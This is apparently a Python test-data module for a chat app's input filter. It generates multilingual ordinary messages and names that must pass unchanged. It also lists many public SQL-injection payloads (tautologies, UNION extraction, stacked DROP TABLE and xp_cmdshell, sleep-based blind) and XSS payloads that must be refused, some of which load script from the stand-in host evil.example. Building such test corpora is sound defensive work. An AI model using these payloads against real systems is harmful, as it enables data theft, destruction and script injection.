"""Test data for user text: ordinary messages and names (built from templates and word lists
written here), and public SQL-injection and XSS payload shapes (from cheat-sheet knowledge).

Ordinary text must arrive exactly as typed; payloads must be refused.
"""

from __future__ import annotations

import itertools

ZWJ, ZWNJ = "\u200d", "\u200c"

# The exact examples from the issue.
ISSUE_MESSAGES = [
    "Going to sleep now, good night everyone",
    "My benchmark results are in",
    "She said 'no'; then we moved on",
    "Use /* comments */ sparingly in C",
    "The address was 0xDEADBEEF",
    "why does SELECT * FROM users WHERE id = 1 return nothing?",
    "if x<y and y>z then x<z",
    "Wrap it in a <div> and use <code> tags",
    "<3", "a<b",
]
ISSUE_NAMES = ["Sleepy Sam", "Benchmark Ben", f"Mehr{ZWNJ}nāz", f"👩{ZWJ}💻"]

EMOJI = [
    "👋", "🙂", "😂", "🎉", "📚", "☕", "✅", "🔥", "💯", "🙏🏽", "👍🏻", "❤️", "✨", "🤔",
    f"👩{ZWJ}💻", f"👨{ZWJ}🔬", f"🏳️{ZWJ}🌈", f"👨🏽{ZWJ}🚀", f"❤️{ZWJ}🔥", f"🧑{ZWJ}🤝{ZWJ}🧑",
    f"👩{ZWJ}👩{ZWJ}👧{ZWJ}👦", f"🏴{ZWJ}☠️", f"🧑🏾{ZWJ}🎓", f"😮{ZWJ}💨", f"🐻{ZWJ}❄️",
    "🇩🇪", "🇯🇵", "🇧🇷", "1️⃣", "🏴\U000e0067\U000e0062\U000e0073\U000e0063\U000e0074\U000e007f",
]

SENTENCES = {
    "en": [
        "Anyone up for a 25 minute sprint?", "I'll be back in 10, grabbing coffee",
        "Don't forget the quiz on Friday!", "Who's working on chapter 3?",
        "Can we drop by the library later?", "Select a room and join us",
        "Let's update the shared notes after this", "I deleted my draft by accident, ugh",
        "It's 5 o'clock somewhere", "Rock 'n' roll while studying? Never.",
        "We're done; let's take a break", "Quick question: is it 'affect' or 'effect' here?",
        "The table on page 12 is wrong", "Insert coin, choose wisely",
        "I'd union our notes into one doc", "Or maybe we just order pizza",
        "Good morning from Lisbon", "Break time! Back at :30", "Muted my mic, the dog is barking",
        "Thanks, that really helped", "Can someone explain the drop-down in the form?",
        "My exam is on the 14th; wish me luck", "\"Stay hungry, stay foolish\" - Jobs",
        "O'Neil's lecture was great", "I'm from the O'Brien group",
    ],
    "fr": ["Bonjour tout le monde !", "On fait une pause à 15 h ?", "J'ai fini l'exercice 4, c'est dur",
           "Qui révise l'examen de maths ?", "À tout à l'heure, bon courage"],
    "de": ["Guten Morgen zusammen!", "Ich mache kurz Pause, bin gleich zurück",
           "Weiß jemand, wann die Prüfung ist?", "Grüße aus München", "Schönes Wochenende euch"],
    "es": ["¡Hola a todos!", "¿Alguien estudia química hoy?", "Voy a tomar un café, ahora vuelvo",
           "Mañana tengo examen de física", "¡Ánimo, ya casi terminamos!"],
    "pt": ["Bom dia, pessoal!", "Alguém entende essa questão de cálculo?", "Vou fazer uma pausa",
           "Obrigado pela ajuda!", "Estou estudando para o vestibular"],
    "it": ["Ciao a tutti!", "Qualcuno ha gli appunti di ieri?", "Faccio una pausa caffè",
           "Buono studio!", "L'esame è giovedì"],
    "pl": ["Cześć wszystkim!", "Ktoś uczy się do egzaminu z fizyki?", "Zaraz wracam, idę po herbatę",
           "Dzięki za pomoc", "Powodzenia jutro!"],
    "tr": ["Herkese merhaba!", "Birazdan dönüyorum", "Sınavım yarın, çok heyecanlıyım",
           "Çay molası verelim mi?", "Teşekkürler, çok işime yaradı"],
    "vi": ["Chào mọi người!", "Mình nghỉ giải lao một chút nhé", "Ai đang học toán không?",
           "Cảm ơn bạn nhiều", "Chúc mọi người học tốt"],
    "ru": ["Всем привет!", "Кто готовится к экзамену по физике?", "Сделаю перерыв на чай",
           "Спасибо, очень помогло", "Удачи завтра на экзамене!"],
    "uk": ["Привіт усім!", "Хтось вчить історію?", "Я повернуся за п'ять хвилин",
           "Дякую за пояснення", "Гарного навчання!"],
    "el": ["Γεια σας σε όλους!", "Κάνω ένα διάλειμμα για καφέ", "Ποιος διαβάζει μαθηματικά;",
           "Ευχαριστώ πολύ", "Καλή επιτυχία στις εξετάσεις"],
    "ar": ["مرحبا بالجميع!", "سأعود بعد خمس دقائق", "هل يدرس أحد الرياضيات الآن؟",
           "شكرا جزيلا على المساعدة", "بالتوفيق في الامتحان"],
    "fa": [f"سلام به همه!", f"من می{ZWNJ}خواهم کمی استراحت کنم", f"کسی ریاضی می{ZWNJ}خواند؟",
           f"کتاب{ZWNJ}ها را آوردم", f"خیلی ممنون، کمک بزرگی بود", f"امتحان فردا سخت{ZWNJ}تر است"],
    "he": ["שלום לכולם!", "אני לוקח הפסקה קצרה", "מישהו לומד לבחינה בפיזיקה?", "תודה רבה", "בהצלחה מחר"],
    "hi": ["सभी को नमस्ते!", "मैं पाँच मिनट में वापस आता हूँ", "क्या कोई गणित पढ़ रहा है?",
           f"क्{ZWJ}ष और क्{ZWNJ}ष अलग दिखते हैं", "धन्यवाद, बहुत मदद मिली"],
    "bn": ["সবাইকে শুভেচ্ছা!", "আমি একটু বিরতি নিচ্ছি", f"র{ZWJ}্য আর র্য আলাদা দেখায়",
           "কেউ পদার্থবিজ্ঞান পড়ছে?", "অনেক ধন্যবাদ"],
    "ml": ["എല്ലാവർക്കും നമസ്കാരം!", f"അവന്{ZWJ} വന്നു", "ഞാൻ ഒരു ഇടവേള എടുക്കുന്നു",
           "നന്ദി", "പരീക്ഷയ്ക്ക് ആശംസകൾ"],
    "ta": ["அனைவருக்கும் வணக்கம்!", "நான் சிறிது ஓய்வு எடுக்கிறேன்", "நன்றி"],
    "zh": ["大家好！", "我去倒杯茶，马上回来", "有人在复习数学吗？", "谢谢你的帮助", "考试加油！"],
    "ja": ["みなさん、こんにちは！", "ちょっと休憩します", "誰か物理の勉強をしていますか？",
           "ありがとうございます", "テスト頑張ってください"],
    "ko": ["안녕하세요 여러분!", "잠깐 쉬었다 올게요", "수학 공부하는 사람 있어요?", "고마워요", "시험 잘 봐요"],
    "th": ["สวัสดีทุกคน", "ขอพักสักครู่นะ", "มีใครอ่านคณิตศาสตร์อยู่ไหม", "ขอบคุณมาก", "สู้ๆ นะ"],
    "sw": ["Habari zenu!", "Ninarudi baada ya dakika tano", "Asanteni sana"],
    "ka": ["გამარჯობა ყველას!", "მადლობა დახმარებისთვის"],
    "hy": ["Բարեւ բոլորին!", "Շնորհակալություն"],
    "am": ["ሰላም ለሁላችሁ!", "አመሰግናለሁ"],
}

CODING = [
    "How do I reverse a list in Python? list[::-1]?", "In C, is `a[i]` the same as `*(a + i)`?",
    "Why does `if (x = 5)` compile in C?", "What's the difference between == and === in JS?",
    "for (int i = 0; i < n; i++) { sum += a[i]; }", "Use std::vector<int> instead of int[]",
    "In Rust, Vec<String> vs &[String]?", "template<typename T> T max(T a, T b);",
    "Is Map<String, List<Integer>> too nested?", "x >> 2 is the same as x / 4 for unsigned x",
    "a -> b means a implies b", "Use `git log --oneline` to see the history",
    "My regex is ^[a-z]+$ and it fails on 'é'", "Why is 0.1 + 0.2 != 0.3?",
    "In bash, use $(cmd) instead of backticks", "HTML question: should I wrap this in <section> or <article>?",
    "Is <br> or <br/> correct in HTML5?", "The <table> tag is for data, not layout",
    "Put the <h1> inside <header>", "Use <ul> and <li> for the nav",
    "What does the <template> element do?", "x = y; y = z; z = x  # swap?",
    "print('hello, world')", "console.log(\"it's working\")", "def f(x): return x if x > 0 else -x",
    "c == 'a' and ord(c) > 96", "s.split(';') gives me an empty string at the end",
    "Use /* comments */ sparingly, prefer // in C++", "-- this is a Lua comment, not SQL",
    "# heading in markdown, ## subheading", "The address was 0x7ffeefbff5c8 in the core dump",
    "The hash is 0xCAFEBABE", "chmod 755 script.sh && ./script.sh", "pip install 'numpy<2'",
    "In Haskell: map (+1) [1,2,3]", "a && b || c - what binds first?", "Ternary: x ? y : z",
    "Lambda: (x) => x * 2", "Generic: List<? extends Number>", "i++ vs ++i?",
]
MATHS = [
    "Is 5 < 7 and 9 > 3 always true? Yes", "Prove that if a < b and b < c then a < c",
    "x² + y² = r² is a circle", "For all ε > 0 there is δ > 0", "∑ from i=1 to n of i = n(n+1)/2",
    "1 + 1 = 2, right?", "Is ∫ x dx = x²/2 + C?", "lim x→0 sin(x)/x = 1", "f(x) = 3x + 2, find f⁻¹",
    "√2 is irrational", "π ≈ 3.14159", "If p -> q and q -> r then p -> r",
    "0 <= x <= 1 and 0 <= y <= 1", "a<b<c", "2<3", "x>=0", "n! > 2^n for n >= 4",
    "Let A ⊆ B and B ⊆ C", "det(A) ≠ 0 means A is invertible", "E = mc²", "F = ma, so a = F/m",
    "1 or 2 people are enough", "Choose 1 and 2 from the list", "1/3 ≈ 0.333…",
    "ΔG = ΔH − TΔS", "The answer is 42", "3 <= 4", "5 >= 5", "is 10 > 9? yes", "1, 2, 3 or 4?",
]
SQL_TALK = [
    "why does SELECT * FROM users WHERE id = 1 return nothing?",
    "Is SELECT COUNT(*) FROM orders slow on big tables?", "How do I INSERT INTO a table with a serial id?",
    "What does DROP TABLE IF EXISTS do?", "UPDATE users SET name = 'x' WHERE id = 3 changed 0 rows",
    "DELETE FROM logs WHERE created < now() - interval '7 days'", "Should I use UNION or UNION ALL?",
    "My JOIN returns duplicates, why?", "GROUP BY vs DISTINCT?", "ORDER BY name DESC LIMIT 10",
    "How do I escape O'Reilly in SQL? Use 'O''Reilly'", "Parameterised queries prevent injection",
    "SQL injection is why you never build queries with string concatenation",
    "Is it select or SELECT? Case doesn't matter", "CREATE INDEX on email made it fast",
    "The WHERE clause runs before SELECT", "what does COALESCE(a, b) return if a is null?",
    "We use sqlite for tests and postgres in prod", "EXPLAIN ANALYZE shows a seq scan",
    "I'll drop the table topic and move on", "Benchmark: 3.2 ms per query", "I need sleep, 2 hours only",
    "Let me select the best answer", "Drop me a message when you're done", "Union meeting at 5",
    "Sleep(5) hours tonight, promise", "Don't delete; archive instead", "SQL is fun; so is Python",
]
QUOTES = [
    "She said 'no'; then we moved on", "He said \"yes\" and left", "It's 'quoted' and that's fine",
    "My teacher's 'quick' quiz took an hour", "\"Ok\"; \"fine\"; \"done\"", "'Tis the season",
    "The '80s were great", "I said 'no' -- and left", "x' and y' are derivatives",
    "Take 'em or leave 'em", "Rock 'n' roll", "O'Hara said 'hi' to D'Angelo", "It's 'fine' and x = 5 ok",
    "Try it: 'a' or 'b'?", "I <3 this room", "<3 <3 <3", "you're <3", "5 > 3", "-> next slide",
    "<-- that one", "=> see above", "<<< back", ">>> forward", "a < b > c", "x<y", "< 5 min left",
    "«Bonjour»", "„Hallo“", "‹quote›", "That costs 5 € & 10 $", "Tom & Jerry", "50% done",
    "100%25 sure", "semi;colons;everywhere", "wait... what?!", "#study #focus", "@Ana can you help?",
    "see https://example.org/page?a=1&b=2", "email me at a@b.c", "C:\\Users\\me\\notes.txt",
    "1st, 2nd & 3rd", "It's 9:30 - break at 10:00", "Q&A at 3", "(just kidding)", "[citation needed]",
    "{braces} are fine", "~tilde~ and ^caret^", "back\\slash", "Hello\nworld", "line one\n\nline two",
    "col1\tcol2\tcol3", "— em dash —", "…", "☺", "ok 👍🏻", f"done 👩{ZWJ}💻",
]
DECORATIONS = [
    "{}", "{} 🙂", "Hey, {}", "{} :)", "@Sam {}", "{} (for real)", "{} 📚", "So... {}",
    f"{{}} 👩{ZWJ}💻",
]


def _sentences() -> list[str]:
    base = [s for group in SENTENCES.values() for s in group] + CODING + MATHS + SQL_TALK + QUOTES
    return list(dict.fromkeys(base))


def ordinary_messages() -> list[str]:
    """At least 2,000 distinct ordinary chat messages."""
    out = list(ISSUE_MESSAGES)
    out += [template.format(sentence) for sentence, template in
            itertools.product(_sentences(), DECORATIONS)]
    out += [f"{e} {s}" for e, s in zip(itertools.cycle(EMOJI), _sentences())]
    out += EMOJI + ["".join(EMOJI[i:i + 3]) for i in range(len(EMOJI))]
    return list(dict.fromkeys(out))


FIRST_NAMES = [
    "Ana", "Bo", "Chloé", "Dmitri", "Émile", "Fatima", "Grace", "Hiro", "Ingrid", "Jürgen",
    "Kwame", "Lucía", "Mateus", "Noor", "Oğuz", "Paweł", "Quynh", "Raj", "Siobhán", "Thảo",
    "Uwe", "Valentina", "Wiktoria", "Xiadani", "Yusuf", "Zoë", "D'Angelo", "O'Brien", "Mary-Jane",
    "Jean-Luc", "Nguyễn", "Søren", "Åsa", "Ólafur", "Željko", "Đorđe", "Anaïs",
    "Алексей", "Мария", "Олена", "Σοφία", "Νίκος", "محمد", "فاطمة", "یاسمن", f"مه{ZWNJ}لقا",
    f"ماه{ZWNJ}رخ", f"نیک{ZWNJ}نام", "דוד", "שירה", "अर्जुन", "प्रिया", f"लक्{ZWNJ}ष्मी", "রাহুল",
    f"উত্{ZWJ}পল", "അനന്തു", f"ലക്ഷ്മണ്{ZWJ}", "கார்த்திக்", "王芳", "李明", "さくら", "たろう",
    "민준", "서연", "สมชาย", "ნინო", "Արամ", "አበበ", "Mehr", "Leilani", "Aroha",
]
NAME_PARTS = [
    "{}", "{} K.", "Sleepy {}", "{} the Owl", "{} 🙂", "{} <3", "{} (she/her)", "{} 2",
    f"{{}} 👩{ZWJ}💻", f"{{}} 🏳️{ZWJ}🌈", "Dr. {}", "{} & Co", "{}_99", "{}!",
]


def ordinary_names() -> list[str]:
    """At least 500 distinct ordinary display names (1-50 characters)."""
    out = list(ISSUE_NAMES) + ["Benchmark Ben", "Select Sally", "Drop-by Dan", "Union Jack",
                               "Tom & Jerry", "Rock 'n' Roll", "Mr. O'Neil", "Ana <3",
                               "<3", "x>y", "1 or 2", "Mehr", f"Mehr{ZWNJ}nāz Rahimi"]
    out += [part.format(name) for name, part in itertools.product(FIRST_NAMES, NAME_PARTS)]
    out += EMOJI
    return [n for n in dict.fromkeys(out) if len(n) <= 50]


# SQL-injection payload shapes, as listed by public cheat sheets (OWASP testing guide,
# PortSwigger, PayloadsAllTheThings, sqlmap's boundaries), written from memory.
_SQLI_BASE = [
    # tautologies
    "' OR '1'='1", "' OR '1'='1' --", "' OR '1'='1' #", "' OR '1'='1' /*", "' or 1=1", "' or 1=1--",
    "' or 1=1#", "' or 1=1/*", "') or '1'='1", "') or ('1'='1", "')) or (('1'='1", "\" or \"1\"=\"1",
    "\" or 1=1--", "\") or (\"1\"=\"1", "' or 'a'='a", "' or 'x'='x", "\" or \"\"=\"", "' or ''='",
    "' OR 1=1 LIMIT 1 --", "admin' or '1'='1", "admin' or 1=1#", "admin\" or 1=1--", "1' or '1'='1",
    "1' or 1=1 --", "' or true--", "' or true#", "' OR 1 --", "' or 1#", "' OR 2>1 --", "' or 3>2#",
    "' || '1'='1", "'||1=1--", "' && 1=1--", "' or username like '%", "' or id is not null--",
    "' OR 'something' = 'some'+'thing'", "' or 1 in (1)--", "' or 1 between 0 and 2--",
    "' OR NOT 1=2--", "' oR 1=1 -- -", "'or''='", "'OR 1=1#", "1 or 1=1", "1 OR 1=1--", "1) or (1=1",
    "1)) or ((1=1", "-1 OR 2>1", "-1 or 1=1--", "0 or 1=1", "1 and 1=1", "1 AND 1=2", "1' AND '1'='1",
    "1' AND 1=1--", "1' and 1=2#", "1 or true", "x' OR full_name LIKE '%Bob%", "' or a=a--",
    "' or 'abc'='abc'--", "admin') or ('1'='1'--", "admin\") or (\"1\"=\"1\"--", "' OR 0=0 --",
    "\" OR 0=0 --", "' OR 'x'='x'#", "or 1=1", "or 1=1--", "' or (1)=(1)--", "') or 1=1--",
    # comment truncation
    "admin'--", "admin' --", "admin' #", "admin'#", "admin'/*", "admin')--", "admin\")--", "admin\"--",
    "'--", "')--", "root'--", "user@example.com'--", "admin';--", "admin'); --",
    # UNION
    "' UNION SELECT NULL--", "' UNION SELECT NULL,NULL--", "' UNION SELECT NULL,NULL,NULL--",
    "' UNION ALL SELECT NULL,NULL,NULL--", "' UNION SELECT 1,2,3--", "' union select 1,2,3#",
    "\" UNION SELECT 1,2 --", "\" UNION SELECT username, password FROM users --",
    "' UNION SELECT username, password FROM users--", "1 UNION SELECT 1,2,3", "1 UNION ALL SELECT NULL,NULL",
    "-1 UNION SELECT 1,version(),3", "-1' UNION SELECT 1,2,3--+", "1' UNION SELECT @@version--",
    "' UNION SELECT table_name FROM information_schema.tables--",
    "' UNION SELECT column_name FROM information_schema.columns WHERE table_name='users'--",
    "') UNION SELECT 1,2--", "')) UNION SELECT 1,2--", "' UNION SELECT sqlite_version()--",
    "' UNION SELECT name FROM sqlite_master--", "' UNION SELECT banner FROM v$version--",
    "' union distinct select 1,2--", "1 union (select 1,2)", "' UNION (SELECT 1,2)--",
    "x' UNION SELECT password FROM users --", "union select null,null,null",
    "UNION ALL SELECT 1,2,3", "' AND 1=0 UNION ALL SELECT 'admin', '81dc9bdb52d04dc20036dbd8313ed055'",
    # stacked queries
    "'; DROP TABLE users--", "'; DROP TABLE users; --", "1; DROP TABLE users", "1; DROP TABLE users--",
    "Robert'); DROP TABLE Students;--", "'; DELETE FROM users--", "'; INSERT INTO users VALUES ('a','b')--",
    "'; UPDATE users SET password='x' WHERE user='admin'--", "'; TRUNCATE TABLE logs--",
    "'; exec xp_cmdshell('dir') --", "'; EXEC master..xp_cmdshell 'ping 10.0.0.1'--",
    "'; EXEC sp_configure 'show advanced options', 1--", "'; SHUTDOWN--", "'; shutdown with nowait;--",
    "1; SELECT pg_sleep(5)--", "'; SELECT pg_sleep(5)--", "'; select * from users--",
    "'; CREATE TABLE pwn(x int)--", "'; ALTER TABLE users ADD x int--", "'; DROP DATABASE app--",
    "\"; DROP TABLE users--", "'); DELETE FROM messages--", "; DROP TABLE users --",
    "; delete from messages where 1=1", "'; DECLARE @x varchar(99); SET @x='a'--",
    "'; GRANT ALL ON users TO public--", "'; COPY users TO PROGRAM 'id'--",
    "1; exec('select 1')", "'; IF (1=1) WAITFOR DELAY '0:0:5'--",
    "'; update users set name='x' --", "0; drop table users", "1); DROP TABLE users--",
    # time-based blind
    "1 AND SLEEP(5)", "1 and sleep(5)--", "1' AND SLEEP(5)#", "1' AND SLEEP(5)--", "' AND SLEEP(5)--",
    "' OR SLEEP(5)--", "' or sleep(5)#", "\" or sleep(5)=\"", "' and sleep(5) and '1'='1",
    "1 AND pg_sleep(5)", "1' AND pg_sleep(5)--", "'||pg_sleep(5)--", "' || pg_sleep(10)--",
    "'; WAITFOR DELAY '0:0:5'--", "'; waitfor delay '00:00:05'--", "1 WAITFOR DELAY '0:0:5'",
    "1; WAITFOR DELAY '0:0:5'--", "' WAITFOR DELAY '0:0:5'--", "' AND BENCHMARK(5000000,MD5(1))--",
    "1 AND BENCHMARK(5000000,MD5(1))", "' OR BENCHMARK(10000000,SHA1(1))#", "'-SLEEP(5)-'",
    "'+SLEEP(5)+'", "' XOR SLEEP(5)--", "'XOR(if(now()=sysdate(),sleep(5),0))OR'",
    "1 AND (SELECT * FROM (SELECT(SLEEP(5)))a)", "' AND (SELECT * FROM (SELECT(SLEEP(5)))a)--",
    "1 or sleep(5)#", "' and if(1=1,sleep(5),0)--", "1 AND randomblob(100000000)",
    "' AND 1=(SELECT 1 FROM PG_SLEEP(5))--", "1) AND SLEEP(5)--", "1)) AND SLEEP(5)--",
    "' AND dbms_pipe.receive_message('a',5)--", "1 and if(1=1,sleep(5),0)",
    # boolean / error-based blind
    "' AND ascii(substring(password,1,1))>64--", "1 AND ascii(substring((select database()),1,1))>64",
    "' AND substring(version(),1,1)='5", "' AND extractvalue(1,concat(0x7e,version()))--",
    "' AND updatexml(1,concat(0x7e,user()),1)--", "' AND 1=CONVERT(int,@@version)--",
    "' AND 1=CAST(version() AS int)--", "' AND EXISTS(SELECT * FROM users)--",
    "' OR EXISTS(SELECT 1 FROM users WHERE name='admin')--", "1 AND (SELECT COUNT(*) FROM users) > 0",
    "' AND (SELECT 1)=1--", "' and (select 1 from dual)=1--", "1 AND 1=(SELECT 1)",
    "' AND length(database())=8--", "1 AND ORD(MID((SELECT IFNULL(CAST(username AS CHAR),0x20) FROM users),1,1))>64",
    "' AND gtid_subset(concat(0x7e,version()),1)--", "' AND json_extract('[1]', concat('$', version()))--",
    "' AND 1=utl_inaddr.get_host_name((select banner from v$version where rownum=1))--",
    "'+(SELECT 1)+'", "'||(SELECT version())||'", "' + (select top 1 name from sysobjects) + '",
    "1' RLIKE (SELECT 1)--",
    # clauses
    "' ORDER BY 1--", "' ORDER BY 3--+", "1' ORDER BY 10--", "1 ORDER BY 5", "' GROUP BY 1--",
    "' HAVING 1=1--", "1 HAVING 1=1", "' INTO OUTFILE '/tmp/x'--", "' PROCEDURE ANALYSE()--",
    "' LIMIT 1--", "1 LIMIT 1,1--",
]


def _encoded(payload: str) -> list[str]:
    from urllib.parse import quote

    fullwidth = payload.translate({ord("'"): "＇", ord("="): "＝"})
    return [
        quote(payload, safe=""),
        quote(quote(payload, safe=""), safe=""),
        payload.replace(" ", "/**/"),
        payload.replace(" ", "+"),
        payload.replace(" ", "%20"),
        payload.replace(" ", "\t"),
        payload.replace(" ", "\n"),
        payload.upper(),
        payload.replace("'", "&#39;").replace("\"", "&quot;"),
        fullwidth,
    ]


_ENCODED_BASE = ["' OR '1'='1", "' or 1=1--", "' UNION SELECT NULL,NULL--", "'; DROP TABLE users--",
                 "1 AND SLEEP(5)", "admin'--", "' AND SLEEP(5)--", "'; WAITFOR DELAY '0:0:5'--",
                 "1 UNION SELECT 1,2,3", "\" or \"1\"=\"1", "') or ('1'='1", "' ORDER BY 3--"]

SQLI_PAYLOADS = list(dict.fromkeys(
    _SQLI_BASE + [v for p in _ENCODED_BASE for v in _encoded(p)]
    + ["'/*!50000UNION*/ /*!50000SELECT*/ 1,2--", "'/**/OR/**/1=1--", "'%0aor%0a1=1--",
       "%27%20OR%20%271%27%3D%271", "%2527%2520OR%25201%253D1--", "1%20AND%20SLEEP(5)",
       "&#x27; OR 1=1--", "' Or 1=1 -- x", "'UnIoN SeLeCt 1,2--"]
))

XSS_PAYLOADS = [
    "<script>alert(1)</script>", "<SCRIPT>alert(1)</SCRIPT>", "<script src=//evil.example/x.js></script>",
    "<script>window.__xss=1</script>", "<scr<script>ipt>alert(1)</script>", "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1)>", "<img src=x onerror=\"window.__xss=1\">", "<IMG SRC=x OnErRoR=alert(1)>",
    "<img/src/onerror=alert(1)>", "<img src=\"x\"onerror=\"alert(1)\">", "<img src=x onerror\t=alert(1)>",
    "<img src=x onerror\n=alert(1)>", "<svg onload=alert(1)>", "<svg/onload=alert(1)>",
    "\"><svg onload=alert(1)>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
    "<svg><script>alert(1)</script></svg>", "<iframe src=\"javascript:alert(1)\"></iframe>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>", "<iframe src=//evil.example>",
    "<a href=\"javascript:alert(1)\">click me</a>", "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>", "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1)\">x</a>",
    "<a href=\"javascript&colon;alert(1)\">x</a>", "<a href=\" javascript:alert(1)\">x</a>",
    "<a href=\"vbscript:msgbox(1)\">x</a>", "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>", "<object data=x.swf>",
    "<embed src=\"javascript:alert(1)\">", "<embed src=x.swf>", "<applet code=x>",
    "<body onload=alert(1)>", "<details open ontoggle=alert(1)>", "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)>", "<audio src=x onerror=alert(1)>", "<marquee onstart=alert(1)>",
    "<div onmouseover=\"alert(1)\">hover</div>", "<p onclick=alert(1)>x</p>", "<x onpointerrawupdate=alert(1)>",
    "<form action=\"javascript:alert(1)\"><input type=submit>", "<button formaction=javascript:alert(1)>x</button>",
    "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">", "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<base href=\"javascript:alert(1)//\">", "<base href=//evil.example/>", "<link rel=import href=//evil.example>",
    "<link rel=stylesheet href=//evil.example/x.css>", "<style>@import '//evil.example/x.css';</style>",
    "<style>body{background:url(javascript:alert(1))}</style>", "<style>*{x:expression(alert(1))}</style>",
    "<div style=\"width:expression(alert(1))\">", "<div style=\"behavior:url(x.htc)\">",
    "<div style=\"-moz-binding:url(x.xml#xss)\">", "<div style=\"x:exp\\72 ession(alert(1))\">",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">", "<title><img src=x onerror=alert(1)></title>",
    "<a title=\"<img src=x onerror=alert(1)>\">x</a>", "<frameset onload=alert(1)>", "<frame src=javascript:alert(1)>",
    "<portal src=//evil.example>", "<isindex action=javascript:alert(1) type=image>",
    "<table background=\"javascript:alert(1)\">", "<img src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
    "<object type=\"text/x-scriptlet\" data=\"//evil.example/x.sct\"></object>",
    "hello <img src=x onerror=alert(1)> world", "<b onmouseover=alert(1)>bold</b>",
    "<img src=x onerror=alert(1)", "<svg onload=alert(1)//", "<iframe",
]
